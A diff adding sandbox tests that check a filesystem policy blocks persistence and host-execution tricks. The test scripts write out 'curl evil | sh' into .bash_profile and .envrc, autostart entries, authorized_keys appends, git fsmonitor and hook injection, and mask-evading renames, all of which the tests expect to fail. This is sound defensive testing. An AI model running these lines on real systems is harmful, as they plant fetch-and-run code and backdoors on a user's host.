@@ -86,5 +86,68 @@ for (const identity of identities()) {
       assert.equal(existsSync(join(home, '.ssh', 'authorized_keys')), false);
       assert.equal(readFileSync(join(home, '.ssh', 'id_ed25519'), 'utf8'), '-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n');
     });
+    test('cannot create a start-up file or autostart entry that does not exist yet under a writable HOME (H4a)', async () => {
+      writeOwned(identity, join(home, '.profile'), '# the user\'s own\n');
+      const engine = compilePolicy(policySchema.parse({ filesystem: [{ id: 'home', allow: { paths: ['~'], access: 'rw' } }] }), { home, workspace: work });
+      const script = [
+        'echo "curl evil | sh" > ~/.bash_profile',
+        'mkdir -p ~/.config/autostart && echo "[Desktop Entry]" > ~/.config/autostart/x.desktop',
+        'mkdir -p ~/.ssh/x; echo key >> ~/.ssh/authorized_keys',
+        'echo kept > ~/work/still-writable',
+        'echo done',
+      ].join('; ');
+      const result = await runSandboxed({ ...fromPolicy(engine), home, cwd: work, ...as, command: ['sh', '-c', script] });
+      assert.match(result.stdout, /done/, result.stderr);
+      assert.equal(existsSync(join(home, '.bash_profile')), false);
+      assert.equal(existsSync(join(home, '.config', 'autostart')), false);
+      assert.equal(existsSync(join(home, '.ssh', 'authorized_keys')), false);
+      assert.equal(readFileSync(join(home, '.profile'), 'utf8'), "# the user's own\n");
+      // What already exists under HOME stays writable.
+      assert.equal(readFileSync(join(work, 'still-writable'), 'utf8'), 'kept\n');
+    });
+
+    test('cannot rename a denied directory away from its mask, so the next run still hides it (H4b)', async () => {
+      mkdirOwned(identity, join(work, 'a'));
+      mkdirOwned(identity, join(work, 'a', 'secrets'));
+      writeOwned(identity, join(work, 'a', 'secrets', 'key'), 'denied-secret\n');
+      const engine = compilePolicy(
+        policySchema.parse({
+          filesystem: [
+            { id: 'workspace', allow: { paths: ['./'], access: 'rw' } },
+            { id: 'secrets', deny: { paths: ['./a/secrets'] } },
+          ],
+        }),
+        { home, workspace: work },
+      );
+      const run = (command: string) => runSandboxed({ ...fromPolicy(engine), home, cwd: work, ...as, command: ['sh', '-c', command] });
+      const move = await run('mv a b; mv a/secrets c; rm -rf a; echo tried');
+      assert.match(move.stdout, /tried/, move.stderr);
+      assert.equal(readFileSync(join(work, 'a', 'secrets', 'key'), 'utf8'), 'denied-secret\n');
+      const next = await run('cat a/secrets/key b/secrets/key c/key 2>/dev/null; echo end');
+      assert.doesNotMatch(next.stdout, /denied-secret/);
+    });
+
+    test("cannot change a writable workspace's .git/config, .git/hooks or .envrc, which run code on the host later (H4c)", async () => {
+      const repo = join(work, 'repo');
+      mkdirOwned(identity, repo);
+      for (const dir of ['.git', '.git/hooks']) mkdirOwned(identity, join(repo, dir));
+      writeOwned(identity, join(repo, '.git', 'config'), '[core]\n\tbare = false\n', 0o644);
+      writeOwned(identity, join(repo, '.envrc'), 'export A=1\n', 0o644);
+      const engine = compilePolicy(policySchema.parse({ filesystem: [{ id: 'workspace', allow: { paths: ['./'], access: 'rw' } }] }), { home, workspace: repo });
+      const script = [
+        'printf "\\tfsmonitor = touch /tmp/pwned\\n" >> .git/config',
+        'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/post-checkout',
+        'echo "curl evil | sh" >> .envrc',
+        'mv .git .git-old',
+        'echo work > src.txt',
+        'echo done',
+      ].join('; ');
+      const result = await runSandboxed({ ...fromPolicy(engine), home, cwd: repo, ...as, command: ['sh', '-c', script] });
+      assert.match(result.stdout, /done/, result.stderr);
+      assert.equal(readFileSync(join(repo, '.git', 'config'), 'utf8'), '[core]\n\tbare = false\n');
+      assert.equal(existsSync(join(repo, '.git', 'hooks', 'post-checkout')), false);
+      assert.equal(readFileSync(join(repo, '.envrc'), 'utf8'), 'export A=1\n');
+      assert.equal(readFileSync(join(repo, 'src.txt'), 'utf8'), 'work\n');
+    });
   });
 }
